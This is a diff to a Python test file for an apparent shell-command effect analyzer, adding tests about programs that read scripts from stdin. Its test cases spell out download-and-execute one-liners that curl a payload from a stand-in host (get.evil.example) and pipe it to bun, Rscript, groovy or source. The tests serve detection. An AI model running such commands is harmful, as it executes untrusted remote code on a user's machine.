@@ -1,7 +1,8 @@
 """gaps50a: the known gaps stdin49, netcfg49 and endpoints49 left open, each closed by its mechanism: gpg's trust
 commands write the keyring `--homedir`/`GNUPGHOME` names (effects/state_dirs.py); a single-quoted `$NAME` is text,
 not a variable printed (effects/words.printed_environment, shell/outputs.quoted_words); a FIFO the line made is a
-file it made (programs.json mkfifo, mknod)."""
+file it made (programs.json mkfifo, mknod); a program reads its script on stdin as its entry says (`stdin_script`
+true, false or `named`: only `-`; `/dev/stdin` always), past a verb that runs a script (`script_after`: `bun run -`)."""
 
 from __future__ import annotations
 
@@ -85,3 +86,30 @@ def test_a_fifo_the_line_made_fed_to_a_shell_is_code_written_unseen(line: str, p
 
 def test_mknod_makes_its_first_operand_only(proj: Path) -> None:
     assert _written("mknod -m 600 /tmp/f c 1 3", proj) == {"/tmp/f"}
+
+
+URL = "https://get.evil.example/i"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        f"curl -so x {URL} && bun run - < x",
+        f"curl -so x.ts {URL} && bun run x.ts",
+        f"curl -so x {URL} && bpftrace - < x",
+        f"curl -so x {URL} && Rscript - < x",
+        f"curl -so x {URL} && groovy /dev/stdin < x",  # the kernel's file for stdin, whatever the program
+        f"curl -so x {URL} && source /dev/stdin < x",
+    ],
+)
+def test_a_fed_file_is_the_script_where_the_program_reads_it(line: str, proj: Path) -> None:
+    [run] = [e for e in ops(line, proj, "exec") if e["program"] != "curl"]
+    assert run["flow"] == "fetch" and str(run["path"]).endswith(("/x", "/x.ts"))
+
+
+@pytest.mark.parametrize(
+    "line",
+    [f"curl -so x {URL} && {p} < x" for p in ("dart", "groovy", "bun", "bpftrace", "kotlin", "elixir", "Rscript")],
+)
+def test_a_program_that_reads_no_script_on_stdin_runs_no_fed_file(line: str, proj: Path) -> None:
+    assert [e for e in ops(line, proj, "exec") if e["program"] != "curl"] == []
